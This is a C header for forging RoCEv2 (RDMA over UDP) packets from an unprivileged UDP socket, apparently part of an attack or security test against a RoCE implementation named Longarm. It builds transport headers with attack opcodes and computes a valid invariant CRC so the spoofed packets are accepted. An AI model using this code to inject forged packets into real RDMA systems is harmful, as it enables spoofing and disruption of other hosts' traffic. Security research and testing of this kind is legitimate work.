/*
 * Forged RoCEv2 packets over IPv4, from an ordinary UDP socket: no raw socket, no capability. Over loop-back
 * anybody may send from any port of the peer's address, which is all that Longarm's sockets see of a sender.
 */
#ifndef ROCE_H
#define ROCE_H

#include "check.h"
#include <arpa/inet.h>
#include <sys/socket.h>

enum { ROCE_PORT = 4791, IP_LEN = 20, UDP_LEN = 8, BTH_LEN = 12, ICRC_LEN = 4, MAX_FORGED = 256 };

/* Opcodes that the attack uses; those from 0xc0 on are Longarm's own. */
enum {
	OP_SEND_ONLY = 0x04, OP_WRITE_ONLY = 0x0a, OP_ACKNOWLEDGE = 0x11, OP_CNP = 0x81,
	OP_SEND_ONLY_ACK = 0xc4, OP_SELECTIVE = 0xd1, OP_COOKIE = 0xd2,
};

/* A packet from the BTH on. */
struct forged {
	uint8_t bytes[MAX_FORGED];
	size_t len;
};

static inline void put_bytes(struct forged *packet, const void *bytes, size_t len)
{
	CHECK(packet->len + len + ICRC_LEN <= sizeof(packet->bytes));
	memcpy(packet->bytes + packet->len, bytes, len);
	packet->len += len;
}

static inline void put_u32(struct forged *packet, uint32_t value)
{
	uint32_t big = htonl(value);
	put_bytes(packet, &big, sizeof(big));
}

/* The seven reserved bits beside AckReq are `low`, the six beside BECN `high`. */
static inline struct forged begin_packet(int opcode, uint32_t qpn, uint32_t psn, uint8_t high, uint8_t low)
{
	struct forged packet = { .len = 0 };
	const uint8_t becn = opcode == OP_CNP ? 0x40 : 0, ack_req = 0x80;
	const uint8_t bth[BTH_LEN] = {
		opcode, 0, 0xff, 0xff, becn | high, qpn >> 16, qpn >> 8, qpn, ack_req | low, psn >> 16, psn >> 8, psn,
	};
	put_bytes(&packet, bth, sizeof(bth));
	return packet;
}

static inline uint32_t crc32_of(uint32_t crc, const uint8_t *bytes, size_t len)
{
	for (size_t i = 0; i < len; i++) {
		crc ^= bytes[i];
		for (int bit = 0; bit < 8; bit++)
			crc = crc & 1 ? 0xedb88320u ^ (crc >> 1) : crc >> 1;
	}
	return crc;
}

/* Appends the ICRC (Annex A17.3.3) over the headers, with the fields that routers change set to ones. */
static inline void seal_packet(struct forged *packet, struct in_addr from, struct in_addr to, uint16_t port)
{
	const uint16_t udp_len = UDP_LEN + packet->len + ICRC_LEN, ip_len = IP_LEN + udp_len;
	uint8_t image[8 + IP_LEN + UDP_LEN];
	memset(image, 0xff, sizeof(image));
	uint8_t *ip = image + 8, *udp = ip + IP_LEN;
	const uint8_t head[] = { 0x45, 0xff, ip_len >> 8, ip_len, 0, 0, 0x40, 0, 0xff, 17 };
	memcpy(ip, head, sizeof(head));
	memcpy(ip + 12, &from, 4);
	memcpy(ip + 16, &to, 4);
	const uint8_t ports[] = { port >> 8, port & 0xff, ROCE_PORT >> 8, ROCE_PORT & 0xff, udp_len >> 8, udp_len & 0xff };
	memcpy(udp, ports, sizeof(ports));
	uint32_t crc = crc32_of(~0u, image, sizeof(image));
	const uint8_t ones = 0xff;
	crc = crc32_of(crc, packet->bytes, 4);
	crc = crc32_of(crc, &ones, 1);
	crc = ~crc32_of(crc, packet->bytes + 5, packet->len - 5);
	memcpy(packet->bytes + packet->len, &crc, ICRC_LEN);
	packet->len += ICRC_LEN;
}

#endif
